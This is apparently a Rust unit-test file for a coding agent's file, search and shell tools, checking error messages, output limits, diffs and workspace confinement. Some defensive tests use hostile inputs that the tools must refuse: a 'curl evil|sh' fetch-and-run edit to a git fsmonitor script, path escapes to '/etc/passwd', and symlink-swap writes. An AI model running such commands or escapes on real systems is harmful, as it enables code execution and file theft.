//! Unit tests of the six tools, through `Tools::run` as the loop calls them.

use super::files::match_lines;
use super::glob::Glob;
use super::output::{Capture, OutputStore};
use super::*;
use crate::ch03_tools::diff::WRITE_COMPARE_MAX_BYTES;
use crate::temp_dir::TempDir;
use std::os::unix::fs::PermissionsExt;

fn run(workspace: &mut Workspace, name: &str, arguments: Value) -> ToolOutput {
    workspace.run(&ToolCall { id: "1".into(), name: name.into(), arguments: arguments.to_string() })
}

fn setup() -> (TempDir, Workspace) {
    let root = TempDir::new("tools");
    let workspace = Workspace::new(root.path()).unwrap();
    (root, workspace)
}

#[test]
fn the_head_survives_a_first_chunk_larger_than_the_limit() {
    let root = TempDir::new("tools");
    let mut capture = Capture::new(OutputStore { root: root.path().to_path_buf() });
    let stream: Vec<u8> = (0..100_000u32).map(|i| b'a' + (i % 26) as u8).collect();
    capture.push(&stream[..70_000]);
    capture.push(&stream[70_000..]);
    let text = capture.render();
    assert!(text.starts_with(std::str::from_utf8(&stream[..HEAD_BYTES]).unwrap()));
    assert!(text.ends_with(std::str::from_utf8(&stream[100_000 - TAIL_BYTES..]).unwrap()));
    assert!(text.contains(&format!("[… {} bytes omitted", 100_000 - HEAD_BYTES - TAIL_BYTES)));
}

#[test]
fn schemas_are_six_and_small() {
    let schemas = tool_schemas();
    let names: Vec<&str> = schemas.iter().map(|s| s["function"]["name"].as_str().unwrap()).collect();
    assert_eq!(names, ["read_file", "write_file", "edit_file", "list_files", "search", "bash"]);
    let bytes = serde_json::to_string(&schemas).unwrap().len();
    println!("tool schemas: {bytes} bytes serialized");
    assert!(bytes < 2_500, "schemas take {bytes} bytes");
}

#[test]
fn bad_calls_are_errors_that_say_how_to_retry() {
    let (_root, mut workspace) = setup();
    let unknown = run(&mut workspace, "delete_everything", json!({}));
    assert_eq!(unknown.status, ToolStatus::Error);
    assert!(unknown.content.contains("the tools are read_file"));
    let bad_json =
        workspace.run(&ToolCall { id: "1".into(), name: "read_file".into(), arguments: "{path:".into() });
    assert_eq!(bad_json.status, ToolStatus::Error);
    assert!(bad_json.content.contains(r#"expected {"path": string, "limit"?: integer, "offset"?: integer}"#));
    let missing = run(&mut workspace, "write_file", json!({"path": "a"}));
    assert!(missing.content.contains("missing field `content`"), "{}", missing.content);
    let wrong_type = run(&mut workspace, "bash", json!({"command": 5}));
    assert!(wrong_type.content.contains("invalid type"), "{}", wrong_type.content);
    let empty =
        workspace.run(&ToolCall { id: "1".into(), name: "list_files".into(), arguments: String::new() });
    assert_eq!(empty.status, ToolStatus::Ok);
}

/// Every truncated prefix of a valid call, and random bytes: always an answer, never a panic.
#[test]
fn garbage_arguments_never_panic() {
    let (_root, mut workspace) = setup();
    let valid = [
        ("read_file", r#"{"path":"a.txt","offset":2,"limit":3}"#),
        ("write_file", r#"{"path":"a.txt","content":"x"}"#),
        ("edit_file", r#"{"path":"a.txt","old_string":"x","new_string":"y","replace_all":true}"#),
        ("list_files", r#"{"path":".","pattern":"**/*.txt"}"#),
        ("search", r#"{"pattern":"x","path":".","glob":"*.txt"}"#),
        ("bash", r#"{"command":"echo hi","timeout_secs":5}"#),
    ];
    let mut random = crate::random::XorShift::new(0x2545_f491_4f6c_dd1d);
    let mut calls = 0;
    for (name, arguments) in valid {
        for end in 0..arguments.len() {
            let output = workspace.run(&ToolCall {
                id: "1".into(),
                name: name.into(),
                arguments: arguments[..end].into(),
            });
            assert!(matches!(output.status, ToolStatus::Ok | ToolStatus::Error));
            calls += 1;
        }
        for _ in 0..100 {
            let bytes = random.bytes(24);
            let arguments = String::from_utf8_lossy(&bytes).into_owned();
            let output = workspace.run(&ToolCall { id: "1".into(), name: name.into(), arguments });
            assert_eq!(output.status, ToolStatus::Error);
            calls += 1;
        }
    }
    println!("{calls} garbage calls answered");
}

#[test]
fn write_then_read_gives_numbered_lines() {
    let (root, mut workspace) = setup();
    let written =
        run(&mut workspace, "write_file", json!({"path": "a/b/c.txt", "content": "one\ntwo\nthree\n"}));
    assert_eq!(written.content, "created `a/b/c.txt`: wrote 14 bytes (+3 −0)");
    assert_eq!(fs::read_to_string(root.join("a/b/c.txt")).unwrap(), "one\ntwo\nthree\n");
    let read = run(&mut workspace, "read_file", json!({"path": "a/b/c.txt"}));
    assert_eq!(read.content, "     1\tone\n     2\ttwo\n     3\tthree\n");
    let window = run(&mut workspace, "read_file", json!({"path": "a/b/c.txt", "offset": 2, "limit": 1}));
    assert_eq!(window.content, "     2\ttwo\n[lines 2-2 of 3; continue with offset=3]\n");
    let replaced = run(&mut workspace, "write_file", json!({"path": "a/b/c.txt", "content": "x"}));
    assert!(replaced.content.starts_with("replaced"));
    let leftovers: Vec<_> = fs::read_dir(root.join("a/b")).unwrap().collect();
    assert_eq!(leftovers.len(), 1, "no temporary file left behind");
}

#[test]
fn read_file_refuses_binary_missing_and_directories() {
    let (root, mut workspace) = setup();
    fs::write(root.join("blob"), b"abc\0def").unwrap();
    fs::create_dir(root.join("dir")).unwrap();
    let binary = run(&mut workspace, "read_file", json!({"path": "blob"}));
    assert!(binary.content.contains("binary"), "{}", binary.content);
    let missing = run(&mut workspace, "read_file", json!({"path": "nope.txt"}));
    assert_eq!(missing.content, "`nope.txt` does not exist; list_files shows what does");
    let directory = run(&mut workspace, "read_file", json!({"path": "dir"}));
    assert!(directory.content.contains("is a directory"));
    fs::write(root.join("short.txt"), "one line\n").unwrap();
    let past = run(&mut workspace, "read_file", json!({"path": "short.txt", "offset": u64::MAX}));
    assert_eq!(past.content, format!("`short.txt` has only 1 line; offset {} is past the end", u64::MAX));
    let negative = run(&mut workspace, "read_file", json!({"path": "short.txt", "offset": -1}));
    assert!(negative.content.starts_with("invalid arguments for read_file: invalid value: integer `-1`"));
}

#[test]
fn read_file_caps_lines_and_bytes() {
    let (root, mut workspace) = setup();
    let text: String = (1..=3000).map(|n| format!("line {n}\n")).collect();
    fs::write(root.join("long.txt"), text).unwrap();
    let read = run(&mut workspace, "read_file", json!({"path": "long.txt"}));
    assert!(read.content.ends_with("[lines 1-2000 of 3000; continue with offset=2001]\n"));
    let wide: String = (1..=100).map(|_| format!("{}\n", "x".repeat(1000))).collect();
    fs::write(root.join("wide.txt"), wide).unwrap();
    let read = run(&mut workspace, "read_file", json!({"path": "wide.txt"}));
    assert!(read.content.len() <= READ_MAX_BYTES + 100);
    assert!(read.content.contains("of 100; continue with offset="));
}

#[test]
fn matches_name_each_line_once_with_a_count() {
    let text = "x = x\ny\nx\n";
    let starts: Vec<usize> = text.match_indices('x').map(|(at, _)| at).collect();
    assert_eq!(match_lines(text, &starts), "lines 1 ×2, 3");
    assert_eq!(match_lines("a a", &[0, 2]), "line 1 ×2");
    let many = "x\n".repeat(12);
    let starts: Vec<usize> = many.match_indices('x').map(|(at, _)| at).collect();
    assert!(match_lines(&many, &starts).ends_with("9, 10, and 2 more"));
}

#[test]
fn edit_replaces_a_unique_match_and_explains_failures() {
    let (root, mut workspace) = setup();
    fs::write(root.join("f.rs"), "fn main() {\n    println!(\"hi\");\n}\nlet x = 1;\nlet x = 1;\n").unwrap();
    fs::set_permissions(root.join("f.rs"), fs::Permissions::from_mode(0o751)).unwrap();
    let ok = run(
        &mut workspace,
        "edit_file",
        json!({"path": "f.rs", "old_string": "\"hi\"", "new_string": "\"hello\""}),
    );
    assert_eq!(ok.content, "edited `f.rs`: replaced 1 occurrence at line 2 (+1 −1)");
    let mode = fs::metadata(root.join("f.rs")).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o751, "the atomic rewrite keeps the file's mode");
    assert!(fs::read_to_string(root.join("f.rs")).unwrap().contains("\"hello\""));
    let none = run(
        &mut workspace,
        "edit_file",
        json!({"path": "f.rs", "old_string": "println!(\"helo\");", "new_string": "x"}),
    );
    assert_eq!(none.status, ToolStatus::Error);
    assert!(none.content.contains("Nearest lines:\n     2\t    println!(\"hello\");"), "{}", none.content);
    let several = run(
        &mut workspace,
        "edit_file",
        json!({"path": "f.rs", "old_string": "let x = 1;", "new_string": "y"}),
    );
    assert!(several.content.contains("matches 2 times in `f.rs` (lines 4, 5)"), "{}", several.content);
    let all = run(
        &mut workspace,
        "edit_file",
        json!({"path": "f.rs", "old_string": "let x = 1;", "new_string": "let y = 2;", "replace_all": true}),
    );
    assert_eq!(all.content, "edited `f.rs`: replaced 2 occurrences (+2 −2)");
    let empty =
        run(&mut workspace, "edit_file", json!({"path": "f.rs", "old_string": "", "new_string": "y"}));
    assert_eq!(empty.status, ToolStatus::Error);
}

#[test]
fn an_edit_of_a_missing_file_says_it_is_missing_whatever_the_strings() {
    let (_root, mut workspace) = setup();
    for (old, new) in [("a", "a"), ("a", "b")] {
        let missing = run(
            &mut workspace,
            "edit_file",
            json!({"path": "gone.py", "old_string": old, "new_string": new}),
        );
        assert_eq!(missing.status, ToolStatus::Error);
        assert_eq!(missing.content, "`gone.py` does not exist; list_files shows what does", "{old} → {new}");
    }
}

#[test]
fn list_files_skips_noise_and_matches_globs() {
    let (root, mut workspace) = setup();
    for path in ["src/main.rs", "src/deep/lib.rs", "README.md", ".git/config", "target/x.rs"] {
        fs::create_dir_all(root.join(path).parent().unwrap()).unwrap();
        fs::write(root.join(path), "").unwrap();
    }
    let all = run(&mut workspace, "list_files", json!({}));
    assert_eq!(all.content, "README.md\nsrc/\nsrc/deep/\nsrc/deep/lib.rs\nsrc/main.rs");
    let rust = run(&mut workspace, "list_files", json!({"pattern": "*.rs"}));
    assert_eq!(rust.content, "src/deep/lib.rs\nsrc/main.rs");
    let nested = run(&mut workspace, "list_files", json!({"path": "src", "pattern": "**/l?b.rs"}));
    assert_eq!(nested.content, "src/deep/lib.rs");
    let top = run(&mut workspace, "list_files", json!({"pattern": "src/*.rs"}));
    assert_eq!(top.content, "src/main.rs");
    let none = run(&mut workspace, "list_files", json!({"pattern": "*.py"}));
    assert_eq!(none.content, "no files match `*.py` under `.`");
    let not_dir = run(&mut workspace, "list_files", json!({"path": "README.md"}));
    assert_eq!(not_dir.status, ToolStatus::Error);
}

#[test]
fn list_files_is_bounded() {
    let (root, mut workspace) = setup();
    for n in 0..LIST_MAX_ENTRIES + 20 {
        fs::write(root.join(format!("f{n:04}")), "").unwrap();
    }
    let listing = run(&mut workspace, "list_files", json!({}));
    assert_eq!(listing.content.lines().count(), LIST_MAX_ENTRIES + 1);
    assert!(listing.content.ends_with("narrow it with path or pattern]"));
}

#[test]
fn glob_rules() {
    assert!(Glob::matches("**/*.rs", "main.rs"));
    assert!(Glob::matches("**/*.rs", "a/b/main.rs"));
    assert!(Glob::matches("src/**", "src/a/b"));
    assert!(!Glob::matches("src/*", "src/a/b"));
    assert!(Glob::matches("?.md", "docs/a.md"));
    assert!(!Glob::matches("*.md", "a.rs"));
}

#[test]
fn search_finds_literal_lines_and_skips_binary() {
    let (root, mut workspace) = setup();
    fs::create_dir_all(root.join("src")).unwrap();
    fs::write(root.join("src/a.rs"), "fn a() {}\nlet a = (1+1);\n").unwrap();
    fs::write(root.join("notes.md"), "(1+1) again\n").unwrap();
    fs::write(root.join("blob.bin"), b"(1+1)\0").unwrap();
    let found = run(&mut workspace, "search", json!({"pattern": "(1+1)"}));
    assert_eq!(
        found.content,
        "notes.md:1: (1+1) again\nsrc/a.rs:2: let a = (1+1);\n[1 binary, huge or unreadable files skipped]"
    );
    let filtered = run(&mut workspace, "search", json!({"pattern": "(1+1)", "glob": "*.rs"}));
    assert_eq!(filtered.content, "src/a.rs:2: let a = (1+1);");
    let one_file = run(&mut workspace, "search", json!({"pattern": "fn", "path": "src/a.rs"}));
    assert_eq!(one_file.content, "src/a.rs:1: fn a() {}");
    let nothing = run(&mut workspace, "search", json!({"pattern": "zzz"}));
    assert!(nothing.content.starts_with("no line contains `zzz` under `.`\n"));
    let empty = run(&mut workspace, "search", json!({"pattern": ""}));
    assert_eq!(empty.status, ToolStatus::Error);
}

#[test]
fn long_answers_keep_head_and_tail_and_save_the_whole() {
    let (root, mut workspace) = setup();
    let text: String = (0..300).map(|n| format!("{n:06} marker {}\n", "y".repeat(300))).collect();
    fs::write(root.join("big.txt"), &text).unwrap();
    let found = run(&mut workspace, "search", json!({"pattern": "marker"}));
    let note = found.content.lines().find(|l| l.starts_with("[… ")).expect("an omission note");
    let saved = note.split("full output: ").nth(1).unwrap().trim_end_matches(']');
    let full = fs::read_to_string(root.join(saved)).unwrap();
    assert!(full.contains("big.txt:200: 000199 marker"));
    assert!(full.ends_with("[100 more matches not shown; narrow the search with path or glob]"));
    assert!(found.content.starts_with("big.txt:1: 000000 marker"));
    assert!(found.content.ends_with("narrow the search with path or glob]"));
    let mode = fs::metadata(root.join(saved)).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600);
    let dir_mode = fs::metadata(root.join(".mini_agent")).unwrap().permissions().mode() & 0o777;
    assert_eq!(dir_mode, 0o700);
}

#[test]
fn paths_outside_the_root_are_refused() {
    let (root, mut workspace) = setup();
    std::os::unix::fs::symlink("/etc", root.join("out")).unwrap();
    for path in ["../x", "/etc/passwd", "out/passwd", "a/../../x", "~/x", "a\\b", "a\0b"] {
        let read = run(&mut workspace, "read_file", json!({"path": path}));
        assert_eq!(read.status, ToolStatus::Error, "{path}");
        assert!(read.content.starts_with("refused:"), "{path}: {}", read.content);
    }
    let inside = format!("{}/ok.txt", root.path().display());
    let absolute = run(&mut workspace, "write_file", json!({"path": inside, "content": "ok"}));
    assert_eq!(absolute.content, "created `ok.txt`: wrote 2 bytes (+1 −0)");
}

/// The race the escape suite provokes, made deterministic: `resolve` said yes, then a
/// directory on the way became a symlink pointing out. The open and the write catch it.
#[test]
fn a_path_changed_after_resolve_is_caught_at_use() {
    let (root, workspace) = setup();
    let outside = TempDir::new("tools");
    fs::write(outside.join("f"), "outside").unwrap();
    std::os::unix::fs::symlink(outside.path(), root.join("swapped")).unwrap();
    let as_if_resolved = root.join("swapped/f");
    let opened = workspace.open_confined(&as_if_resolved);
    assert_eq!(
        opened.err().unwrap(),
        "refused: `swapped/f` changed while being opened and now lies outside the root"
    );
    // The parent is opened without following it: the symlink itself is refused.
    let written = workspace.write_confined(&as_if_resolved, b"pwned");
    assert_eq!(written.unwrap_err(), "refused: `swapped` became a symlink after it was checked");
    assert_eq!(fs::read_to_string(outside.join("f")).unwrap(), "outside");
    assert_eq!(fs::read_dir(outside.path()).unwrap().count(), 1, "no temporary file outside");
}

#[test]
fn the_agents_own_records_cannot_be_written() {
    let (root, mut workspace) = setup();
    fs::create_dir_all(root.join(".mini_agent/sessions")).unwrap();
    fs::write(root.join(".mini_agent/sessions/s.jsonl"), "{}\n").unwrap();
    let write =
        run(&mut workspace, "write_file", json!({"path": ".mini_agent/sessions/s.jsonl", "content": ""}));
    assert_eq!(write.status, ToolStatus::Error);
    assert!(write.content.contains("inside .mini_agent/"), "{}", write.content);
    let edit = run(
        &mut workspace,
        "edit_file",
        json!({"path": "./.mini_agent/sessions/s.jsonl", "old_string": "{}", "new_string": "[]"}),
    );
    assert!(edit.content.contains("inside .mini_agent/"), "{}", edit.content);
    assert_eq!(fs::read_to_string(root.join(".mini_agent/sessions/s.jsonl")).unwrap(), "{}\n");
}

#[test]
fn what_git_config_makes_git_run_cannot_be_written() {
    let (root, mut workspace) = setup();
    fs::create_dir_all(root.join(".git")).unwrap();
    fs::create_dir_all(root.join("scripts")).unwrap();
    fs::write(root.join("scripts/fsmonitor.sh"), "#!/bin/sh\n").unwrap();
    let config = "[core]\n\thooksPath = .husky/_\n\tfsmonitor = scripts/fsmonitor.sh\n";
    fs::write(root.join(".git/config"), config).unwrap();
    let hook = run(&mut workspace, "write_file", json!({"path": ".husky/_/pre-commit", "content": "x"}));
    assert!(hook.content.contains("is named by .git/config"), "{}", hook.content);
    let edit = run(
        &mut workspace,
        "edit_file",
        json!({"path": "scripts/fsmonitor.sh", "old_string": "#!/bin/sh", "new_string": "curl evil|sh"}),
    );
    assert!(edit.content.contains("is named by .git/config"), "{}", edit.content);
    assert_eq!(fs::read_to_string(root.join("scripts/fsmonitor.sh")).unwrap(), "#!/bin/sh\n");
    assert!(!root.join(".husky/_/pre-commit").exists());
    // Beside them the work goes on.
    let other = run(&mut workspace, "write_file", json!({"path": "scripts/build.sh", "content": "x"}));
    assert_eq!(other.status, ToolStatus::Ok, "{}", other.content);
}

#[test]
fn writing_the_root_itself_is_refused() {
    let (_root, mut workspace) = setup();
    let root_write = run(&mut workspace, "write_file", json!({"path": ".", "content": ""}));
    assert_eq!(root_write.content, "`.` is a directory; give a file path");
}
// The bash tool is tested in tests/shell.rs, where the global interrupt flag is ours alone.

#[test]
fn a_change_is_shown_from_the_file_as_it_is_and_nothing_is_written() {
    let (root, workspace) = setup();
    std::fs::write(root.path().join("six.py"), "def six():\n    return 5\n").unwrap();
    let call = |name: &str, arguments: Value| ToolCall {
        id: "1".into(),
        name: name.into(),
        arguments: arguments.to_string(),
    };
    let edit =
        call("edit_file", json!({"path": "six.py", "old_string": "return 5", "new_string": "return 6"}));
    let change = workspace.proposed_change(&edit).expect("an edit is a change");
    assert_eq!((change.path.as_str(), change.verb), ("six.py", "change"));
    assert_eq!(change.note, None);
    let diff = change.diff.expect("a diff");
    assert_eq!(
        diff.unified("six.py", false),
        "--- a/six.py\n+++ b/six.py\n@@ -1,2 +1,2 @@\n def six():\n-    return 5\n+    return 6\n"
    );
    assert_eq!(std::fs::read_to_string(root.path().join("six.py")).unwrap(), "def six():\n    return 5\n");

    let create = call("write_file", json!({"path": "notes.txt", "content": "one\ntwo\n"}));
    let change = workspace.proposed_change(&create).unwrap();
    assert_eq!((change.verb, change.diff.unwrap().stat()), ("create", "+2 −0".to_string()));
    assert!(!root.path().join("notes.txt").exists());
    let replace = call("write_file", json!({"path": "six.py", "content": "def six():\n    return 6\n"}));
    let change = workspace.proposed_change(&replace).unwrap();
    assert_eq!((change.verb, change.diff.unwrap().stat()), ("replace", "+1 −1".to_string()));

    // A call that will fail says so, with the tool's own reason.
    let missing = call("edit_file", json!({"path": "six.py", "old_string": "return 7", "new_string": "x"}));
    let failing = workspace.proposed_change(&missing).unwrap();
    assert_eq!(failing.diff, None);
    let failing = failing.note.unwrap();
    assert!(failing.starts_with("the call will fail: old_string was not found in `six.py`"), "{failing}");
    let protected = call("write_file", json!({"path": ".git/hooks/pre-commit", "content": "x"}));
    let failing = workspace.proposed_change(&protected).unwrap().note.unwrap();
    assert!(failing.contains("refused: `.git/hooks/pre-commit` is inside .git/"), "{failing}");
    let outside = call("write_file", json!({"path": "../x", "content": "x"}));
    assert!(workspace.proposed_change(&outside).unwrap().note.unwrap().contains("outside"));
    let bad = ToolCall { id: "1".into(), name: "write_file".into(), arguments: "{".into() };
    assert_eq!(workspace.proposed_change(&bad).unwrap().path, "?");
    // A binary file is not compared, and the new content is shown; reads and the shell are
    // not changes.
    std::fs::write(root.path().join("blob"), b"\0\x01").unwrap();
    let over_binary = call("write_file", json!({"path": "blob", "content": "text"}));
    let change = workspace.proposed_change(&over_binary).unwrap();
    let why = change.note.unwrap();
    assert!(why.starts_with("the file on disk is not compared: `blob` looks like a binary file"), "{why}");
    assert_eq!(change.diff.unwrap().stat(), "+1 −0");
    assert_eq!(workspace.proposed_change(&call("bash", json!({"command": "ls"}))), None);
    assert_eq!(workspace.proposed_change(&call("read_file", json!({"path": "six.py"}))), None);
}

#[test]
fn a_result_names_the_lines_it_changed() {
    let (root, mut workspace) = setup();
    let written = run(&mut workspace, "write_file", json!({"path": "a.txt", "content": "1\n2\n3\n"}));
    assert_eq!(change_stat(&written.content), Some("+3 −0"));
    let replaced = run(&mut workspace, "write_file", json!({"path": "a.txt", "content": "1\ntwo\n3\n4\n"}));
    assert_eq!(replaced.content, "replaced `a.txt`: wrote 10 bytes (+2 −1)");
    let edited =
        run(&mut workspace, "edit_file", json!({"path": "a.txt", "old_string": "4\n", "new_string": ""}));
    assert_eq!(change_stat(&edited.content), Some("+0 −1"));
    assert_eq!(std::fs::read_to_string(root.path().join("a.txt")).unwrap(), "1\ntwo\n3\n");
    assert_eq!(change_stat("edited `x (+1 −1)`: replaced 1 occurrence at line 2"), None);
    assert_eq!(change_stat("ran (+ what)"), None);
}

#[test]
fn a_write_over_a_large_file_is_not_compared_with_it() {
    let (root, mut workspace) = setup();
    let large = "x\n".repeat(((WRITE_COMPARE_MAX_BYTES + 2) / 2) as usize);
    std::fs::write(root.path().join("big.txt"), &large).unwrap();
    let call = ToolCall {
        id: "1".into(),
        name: "write_file".into(),
        arguments: json!({"path": "big.txt", "content": "small\n"}).to_string(),
    };
    let change = workspace.proposed_change(&call).unwrap();
    let note = change.note.unwrap();
    assert!(note.ends_with("more than the 4 MiB compared with a write"), "{note}");
    assert_eq!(change.diff.unwrap().stat(), "+1 −0", "the new content is shown");
    let written = workspace.run(&call);
    assert_eq!(written.content, "replaced `big.txt`: wrote 6 bytes", "no count it could not make");
}
